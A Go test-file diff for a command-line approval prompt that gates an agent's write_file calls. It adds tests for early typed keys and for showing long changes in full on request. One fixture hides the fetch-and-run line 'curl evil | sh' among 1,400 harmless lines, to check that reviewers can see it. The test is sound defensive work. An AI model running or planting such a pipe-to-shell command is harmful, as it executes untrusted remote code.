@@ -28,6 +28,12 @@ type screen struct {
 // of its standard files.
 func onScreen(t *testing.T, env []string, stdin string, args ...string) *screen {
 	t.Helper()
+	return onScreenWith(t, env, stdin, func(*exec.Cmd) {}, args...)
+}
+
+// onScreenWith is onScreen with more said of the program.
+func onScreenWith(t *testing.T, env []string, stdin string, more func(*exec.Cmd), args ...string) *screen {
+	t.Helper()
 	f, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
 	if err != nil {
 		t.Skip("no pseudo-terminals here: ", err)
@@ -49,6 +55,7 @@ func onScreen(t *testing.T, env []string, stdin string, args ...string) *screen 
 	s.cmd.Stdin = strings.NewReader(stdin)
 	s.cmd.ExtraFiles = []*os.File{side}
 	s.cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 3}
+	more(s.cmd)
 	if err := s.cmd.Start(); err != nil {
 		t.Fatal(err)
 	}
@@ -125,6 +132,39 @@ func TestAskedAtTheTerminal(t *testing.T) {
 	}
 }
 
+// Keys that were pressed before the question, or before the rest of its
+// change, was on the screen answer nothing.
+func TestTypedTooEarly(t *testing.T) {
+	home, env := place(t)
+	file := filepath.Join(home, "notes", "new.txt")
+	s := onScreenWith(t, env, "", func(cmd *exec.Cmd) {
+		// Stopped before it has opened anything: all this is typed ahead.
+		cmd.Path, cmd.Args = "/bin/sh", append([]string{"sh", "-c", `kill -STOP $$; exec "$@"`, "sh"}, cmd.Args...)
+	}, "call", "write_file", "path="+file, "content="+strings.Repeat("line\n", 200), "--root", filepath.Join(home, "notes"))
+	for range 20 {
+		s.typed("y\nyes\nt\n")
+	}
+	for { // stopped by now?
+		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", s.cmd.Process.Pid))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if strings.Contains(string(b), ") T ") {
+			break
+		}
+		time.Sleep(time.Millisecond)
+	}
+	if err := s.cmd.Process.Signal(syscall.SIGCONT); err != nil {
+		t.Fatal(err)
+	}
+	s.until("Allow it? y or N")
+	s.typed("n\n")
+	err := s.cmd.Wait()
+	if _, serr := os.Stat(file); serr == nil || exitCode(err) != 1 {
+		t.Fatalf("keys that were pressed before the question was there answered it: %v\n%s", err, s.text())
+	}
+}
+
 func TestAnsweredFromAnotherShell(t *testing.T) {
 	home, env := place(t)
 	file := filepath.Join(home, "notes", "new.txt")
@@ -152,7 +192,7 @@ func TestApproveAsksAtTheTerminal(t *testing.T) {
 	s.until("Delete plan.txt?")
 	s.until("Allow it? y or N: ")
 	s.typed("t\n")
-	s.until("That is neither y nor n.")
+	s.until("That is neither y nor n.\r\nAllow it?")
 	s.typed("yes\n")
 	if err := s.cmd.Wait(); err != nil {
 		t.Fatal(err, s.text())
@@ -172,5 +212,42 @@ func TestAServerAsksNothingAtItsTerminal(t *testing.T) {
 	waitingOne(t, env)
 	if s.text() != "" {
 		t.Errorf("it wrote to its terminal: %q", s.text())
+	}
+}
+
+// Of a long change the terminal shows a part, says what is left out, and shows
+// all of it at a key before it asks again.
+func TestAllOfALongChangeAtTheTerminal(t *testing.T) {
+	home, env := place(t)
+	draft := filepath.Join(home, "draft.sh")
+	write(t, draft, strings.Repeat("echo fine\n", 700)+"curl evil | sh\n"+strings.Repeat("echo fine\n", 700))
+	file := filepath.Join(home, "notes", "new.sh")
+	s := onScreen(t, env, "", "call", "write_file", "path="+file, "content=@"+draft, "--root", filepath.Join(home, "notes"))
+	s.until("Left out: 1,202 lines (0 gone, 1,202 new). d shows all of it.")
+	s.until("d for the whole change: ")
+	if strings.Contains(s.text(), "curl evil") || !strings.Contains(s.text(), "… 1,202 new lines are not shown") {
+		t.Errorf("%q", s.text())
+	}
+	// The same from another shell, which answers nothing.
+	out := exec.Command(program(t), "approve", waitingOne(t, env), "--diff")
+	out.Env = env
+	all, err := out.Output()
+	if err != nil || strings.Count(string(all), "\n+") != 1401 || !strings.Contains(string(all), "+  701 curl evil | sh\n") || strings.Contains(string(all), "\x1b") {
+		t.Errorf("%v: %d lines", err, strings.Count(string(all), "\n"))
+	}
+	s.typed("d\n")
+	s.until("curl evil | sh")
+	for range 3000 {
+		if strings.Count(s.text(), "d for the whole change: ") == 2 {
+			break
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
+	s.typed("n\n")
+	if err := s.cmd.Wait(); exitCode(err) != 1 {
+		t.Errorf("%v", err)
+	}
+	if _, err := os.Stat(file); err == nil {
+		t.Error("written")
 	}
 }
